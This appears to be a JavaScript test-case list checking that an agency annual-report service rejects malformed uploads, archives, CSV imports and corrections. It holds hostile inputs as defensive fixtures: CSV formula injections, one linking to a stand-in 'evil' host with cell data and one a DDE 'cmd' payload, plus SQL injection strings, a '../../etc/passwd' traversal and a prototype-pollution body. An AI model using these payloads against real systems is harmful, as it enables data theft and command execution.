  {
    id: 'broken-json',
    threat: 'wrong content types and broken bodies',
    route: 'correction',
    build: () => ({
      kind: 'raw',
      contentType: 'application/json',
      body: '{"reason":"x","changes":[{"address":"a","value":1}',
    }),
    expect: { status: 400, code: 'MALFORMED_BODY' },
  },
  {
    id: 'agency-import-as-json',
    threat: 'wrong content types and broken bodies',
    route: 'agency-import',
    build: () => ({ kind: 'json', body: { file: 'code,name\nX,Y' } }),
    expect: { status: 400, code: 'AGENCY_IMPORT_FILE_MISSING', reason: /multipart/ },
  },
  {
    id: 'agency-import-old-xls',
    threat: 'wrong content types and broken bodies',
    route: 'agency-import',
    build: () => file(headed(OLE_HEAD, 8192), 'agencies.xls'),
    expect: { status: 415, code: 'AGENCY_IMPORT_UNSUPPORTED_FORMAT', reason: /\.xls/ },
  },
  {
    id: 'agency-import-double-extension',
    threat: 'wrong content types and broken bodies',
    route: 'agency-import',
    build: () => file(agencyCsv('X1,单位,县级,人民政府,,,'), 'agencies.csv.exe'),
    expect: { status: 415, code: 'AGENCY_IMPORT_UNSUPPORTED_FORMAT' },
  },
  {
    id: 'bulk-import-urlencoded',
    threat: 'wrong content types and broken bodies',
    route: 'bulk-import',
    build: () => ({
      kind: 'raw',
      contentType: 'application/x-www-form-urlencoded',
      body: 'file=reports.zip',
    }),
    expect: { status: 400, code: 'IMPORT_FILE_MISSING', reason: /zip/ },
  },

  // ── bulk import archives ────────────────────────────────────────────────────────────────
  {
    id: 'bulk-docx-instead-of-zip',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: async (context) => file(await realReportDocx(context), 'reports.zip'),
    expect: BULK(422, 'IMPORT_NOT_AN_ARCHIVE_OF_REPORTS', /Office 文档/),
  },
  {
    id: 'bulk-xlsx-instead-of-zip',
    threat: 'bulk import archives',
    route: 'bulk-preview',
    build: () => file(zipParts(xlsxParts(sharedStringsXml(['报告']))), 'reports.xlsx'),
    expect: BULK(422, 'IMPORT_NOT_AN_ARCHIVE_OF_REPORTS'),
  },
  {
    id: 'bulk-opendocument-instead-of-zip',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: () =>
      file(
        zipSync({
          mimetype: text('application/vnd.oasis.opendocument.text'),
          'content.xml': text('<office:document-content/>'),
        }),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_NOT_AN_ARCHIVE_OF_REPORTS', /OpenDocument/),
  },
  {
    id: 'bulk-pdf-named-zip',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: () => file(buildPdf(onePagePdfObjects('BT ET')), 'reports.zip'),
    expect: BULK(422, 'IMPORT_NOT_A_ZIP', /不是 zip/),
  },
  {
    id: 'bulk-rar-named-zip',
    threat: 'bulk import archives',
    route: 'bulk-preview',
    build: () => file(headed([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), 'reports.zip'),
    expect: BULK(422, 'IMPORT_NOT_A_ZIP'),
  },
  {
    id: 'bulk-empty-file',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: () => file(new Uint8Array(0), 'reports.zip'),
    expect: BULK(422, 'IMPORT_NOT_A_ZIP'),
  },
  {
    id: 'bulk-truncated-zip',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: (context) => {
      const zip = zipSync({
        'a.txt': text(context.reportText),
        'b.txt': text(context.reportText.slice(100)),
      });
      return file(zip.subarray(0, zip.length - 40), 'reports.zip');
    },
    expect: BULK(422, 'IMPORT_NOT_A_ZIP'),
  },
  {
    id: 'bulk-only-litter',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: () =>
      file(
        zipSync({
          '__MACOSX/._r.txt': text('x'),
          '.DS_Store': text('x'),
          'Thumbs.db': text('x'),
          '~$r.docx': text('x'),
        }),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_ZIP_EMPTY', /没有可导入/),
  },
  {
    id: 'bulk-nested-zip',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: (context) =>
      file(zipSync({ 'inner.zip': zipSync({ 'r.txt': text(context.reportText) }) }), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_NESTED', /不能再包含压缩包/),
  },
  {
    id: 'bulk-gzip-disguised-as-txt',
    threat: 'bulk import archives',
    route: 'bulk-preview',
    build: () => file(zipSync({ 'r.txt': headed([0x1f, 0x8b, 0x08, 0x00]) }), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_NESTED'),
  },
  {
    id: 'bulk-bzip2-compression',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: () =>
      file(rawZip([{ ...deflatedEntry('r.txt', '2023年度报告'), method: 12 }]), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_UNSUPPORTED', /压缩方式/),
  },
  {
    id: 'bulk-aes-encrypted-entry',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: () =>
      file(
        rawZip([{ ...deflatedEntry('r.txt', '2023年度报告'), method: 99, flags: 0x0801 }]),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_ZIP_UNSUPPORTED'),
  },
  {
    id: 'bulk-manifest-unclosed-quote',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: (context) =>
      file(
        zipSync({
          'r.txt': text(context.reportText),
          'manifest.csv': text('file,agency_code,year\n"r.txt,X,2023\n'),
        }),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_MANIFEST_INVALID', /CSV/),
  },
  {
    id: 'bulk-manifest-absurd-years',
    threat: 'bulk import archives',
    route: 'bulk-preview',
    build: (context) =>
      file(
        zipSync({
          'r.txt': text(context.reportText),
          'manifest.csv': text(
            `file,agency_code,year\nr.txt,${context.agencyCode},99999\nr.txt,${context.agencyCode},-2023\n`,
          ),
        }),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_MANIFEST_INVALID', /四位年份/),
  },
  {
    id: 'bulk-manifest-formula-agency-code',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: (context) =>
      file(
        zipSync({
          'r.txt': text(context.reportText),
          'manifest.csv': text(
            manifestFor(context, 'r.txt', '"=HYPERLINK(""http://evil"",""x"")"'),
          ),
        }),
        'reports.zip',
      ),
    expect: { status: 403, code: 'FORBIDDEN', reason: /只能导入本单位/ },
  },
  {
    id: 'bulk-manifest-other-agency',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: (context) =>
      file(
        zipSync({
          'r.txt': text(context.reportText),
          'manifest.csv': text(manifestFor(context, 'r.txt', context.otherAgencyCode)),
        }),
        'reports.zip',
      ),
    expect: { status: 403, code: 'FORBIDDEN', reason: /只能导入本单位/ },
  },
  {
    id: 'bulk-manifest-names-missing-file',
    threat: 'bulk import archives',
    route: 'bulk-import',
    build: (context) =>
      file(
        zipSync({
          'r.txt': text(context.reportText),
          'manifest.csv': text(manifestFor(context, '../../etc/passwd')),
        }),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_MANIFEST_INVALID', /没有文件/),
  },

  // ── agency imports and CSV injection ────────────────────────────────────────────────────
  {
    id: 'agency-csv-formula-code',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () =>
      file(
        agencyCsv('"=HYPERLINK(""http://evil/?""&A1,""点我"")",单位,县级,人民政府,,,'),
        'agencies.csv',
      ),
    expect: AGENCY_INVALID(/编码.*无效/),
  },
  {
    id: 'agency-csv-formula-level-and-kind',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(agencyCsv("X2,单位,@SUM(1+1),+cmd|' /C calc'!A0,,,"), 'agencies.csv'),
    expect: AGENCY_INVALID(/层级.*无效/),
  },
  {
    id: 'agency-csv-formula-parent',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(agencyCsv('X3,单位,县级,人民政府,"=1+1",,'), 'agencies.csv'),
    expect: AGENCY_INVALID(/上级编码.*不存在/),
  },
  {
    id: 'agency-csv-formula-year',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(agencyCsv('X4,单位,县级,人民政府,,-2+2024,\t2030'), 'agencies.csv'),
    expect: AGENCY_INVALID(/四位年份/),
  },
  {
    id: 'agency-csv-formula-header',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(text('=编码,名称,层级,类型\r\nX5,单位,县级,政府'), 'agencies.csv'),
    expect: AGENCY_INVALID(/无法识别的列/),
  },
  {
    id: 'agency-csv-unclosed-quote',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(agencyCsv('"X6,单位,县级,人民政府,,,'), 'agencies.csv'),
    expect: AGENCY_INVALID(/CSV 格式错误/),
  },
  {
    id: 'agency-csv-header-only',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(agencyCsv(), 'agencies.csv'),
    expect: AGENCY_INVALID(/只有表头/),
  },
  {
    id: 'agency-csv-200000-blank-lines',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(text('\n'.repeat(200_000)), 'agencies.csv'),
    expect: AGENCY_INVALID(/文件为空/),
  },
  {
    id: 'agency-csv-ten-thousand-columns',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () =>
      file(
        text(
          `编码,名称,层级,类型,${Array.from({ length: 10_000 }, (_, i) => `col${i}`).join(',')}\r\nX7,单位,县级,政府`,
        ),
        'agencies.csv',
      ),
    expect: AGENCY_INVALID(/无法识别的列/),
  },
  {
    id: 'agency-csv-huge-name',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(agencyCsv(`X8,${'名'.repeat(100_000)},县级,人民政府,,,`), 'agencies.csv'),
    expect: AGENCY_INVALID(/名称不能超过/),
  },
  {
    id: 'agency-csv-duplicate-codes',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () =>
      file(agencyCsv('X9,单位甲,县级,人民政府,,,', 'X9,单位乙,县级,人民政府,,,'), 'agencies.csv'),
    expect: AGENCY_INVALID(/重复/),
  },
  {
    id: 'agency-csv-parent-cycle',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () =>
      file(
        agencyCsv('XA,单位甲,县级,人民政府,XB,,', 'XB,单位乙,县级,人民政府,XA,,'),
        'agencies.csv',
      ),
    expect: AGENCY_INVALID(/循环/),
  },
  {
    id: 'agency-csv-that-is-a-workbook',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: async () => file(await writeAgencyXlsx([]), 'agencies.csv'),
    expect: AGENCY_INVALID(/列|CSV|为空/),
  },
  {
    id: 'agency-xlsx-that-is-a-docx',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(docxWithDocumentXml(documentXml(['编码'])), 'agencies.xlsx'),
    expect: AGENCY_INVALID(/XLSX|工作表/),
  },
  {
    id: 'agency-xlsx-that-is-an-old-xls',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () => file(headed(OLE_HEAD, 8192), 'agencies.xlsx'),
    expect: AGENCY_INVALID(/旧版 Office/),
  },
  {
    id: 'agency-csv-invalid-utf8',
    threat: 'agency imports and CSV injection',
    route: 'agency-import',
    build: () =>
      file(
        concat([
          text('编码,名称,层级,类型\r\n'),
          Uint8Array.from([0xc3, 0x28, 0xff, 0xfe, 0x2c, 0x81, 0x30, 0x0d, 0x0a]),
        ]),
        'agencies.csv',
      ),
    expect: AGENCY_INVALID(/./),
  },

  // ── absurd corrections ──────────────────────────────────────────────────────────────────
  {
    id: 'correction-negative-count',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: { reason: '更正', changes: [{ address: 'applications.newReceived.total', value: -5 }] },
    }),
    expect: CELL_INVALID(/不能小于 0/),
  },
  {
    id: 'correction-fractional-count',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '更正',
        changes: [{ address: 'applications.newReceived.total', value: 2.5 }],
      },
    }),
    expect: CELL_INVALID(/整数/),
  },
  {
    id: 'correction-amount-three-decimals',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '更正',
        changes: [{ address: 'proactive.fees.amountWanYuan', value: 1.234 }],
      },
    }),
    expect: CELL_INVALID(/两位小数/),
  },
  {
    id: 'correction-huge-value',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '更正',
        changes: [{ address: 'applications.newReceived.total', value: 1e300 }],
      },
    }),
    expect: VALIDATION(/超出范围/),
  },
  {
    id: 'correction-value-as-string',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '更正',
        changes: [{ address: 'applications.newReceived.total', value: '12' }],
      },
    }),
    expect: VALIDATION(/有限数字/),
  },
  {
    id: 'correction-value-null',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '更正',
        changes: [{ address: 'applications.newReceived.total', value: null }],
      },
    }),
    expect: VALIDATION(/有限数字/),
  },
  {
    id: 'correction-unknown-cell',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '更正',
        changes: [{ address: "applications'; DROP TABLE report_cell;--", value: 1 }],
      },
    }),
    expect: { status: 400, code: 'CELL_NOT_FOUND', reason: /没有单元格/ },
  },
  {
    id: 'correction-same-cell-twice',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '更正',
        changes: [
          { address: 'applications.newReceived.total', value: 1 },
          { address: 'applications.newReceived.total', value: 2 },
        ],
      },
    }),
    expect: { status: 400, code: 'CELL_REPEATED', reason: /多次/ },
  },
  {
    id: 'correction-reason-of-10000-characters',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '长'.repeat(10_000),
        changes: [{ address: 'applications.newReceived.total', value: 1 }],
      },
    }),
    expect: VALIDATION(/不能超过 500 个字/),
  },
  {
    id: 'correction-prototype-pollution',
    threat: 'absurd corrections',
    route: 'correction',
    build: () => ({
      kind: 'raw',
      contentType: 'application/json',
      body: '{"reason":"更正","changes":{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":1}}}}',
    }),
    expect: VALIDATION(/changes 必须是数组/),
  },

  // ── hostile form fields ─────────────────────────────────────────────────────────────────
  {
    id: 'upload-year-absurd',
    threat: 'hostile form fields',
    route: 'report-upload',
    build: (context) =>
      file(text(context.reportText), '2023年报.txt', {
        fields: { agencyId: context.agencyId, year: '99999' },
      }),
    expect: VALIDATION(/year/),
  },
  {
    id: 'upload-agency-sql-injection',
    threat: 'hostile form fields',
    route: 'report-upload',
    build: (context) =>
      file(text(context.reportText), '2023年报.txt', {
        fields: { agencyId: "' OR '1'='1", year: String(context.year) },
      }),
    expect: VALIDATION(/agencyId/),
  },
  {
    id: 'upload-unfinished-year',
    threat: 'hostile form fields',
    route: 'report-upload',
    build: (context) => ({
      kind: 'json',
      body: {
        agencyId: context.agencyId,
        year: new Date().getFullYear() + 1,
        text: context.reportText,
      },
    }),
    expect: VALIDATION(/year/),
  },
];
